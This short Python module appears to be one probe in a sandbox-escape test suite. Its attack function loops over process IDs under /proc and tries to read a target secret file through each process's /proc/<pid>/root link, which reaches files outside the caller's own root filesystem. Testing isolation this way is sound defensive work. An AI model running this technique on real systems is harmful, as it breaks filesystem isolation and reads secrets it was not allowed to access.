"""Reads it below the root folder of another process."""

from __future__ import annotations

import os
from typing import Any

KIND = "read outside"


def attack(t: dict[str, Any]) -> Any:
    """Return evidence, if it worked."""
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/root{t['secret']}") as file:
                    return file.read()
            except OSError:
                continue
    return None
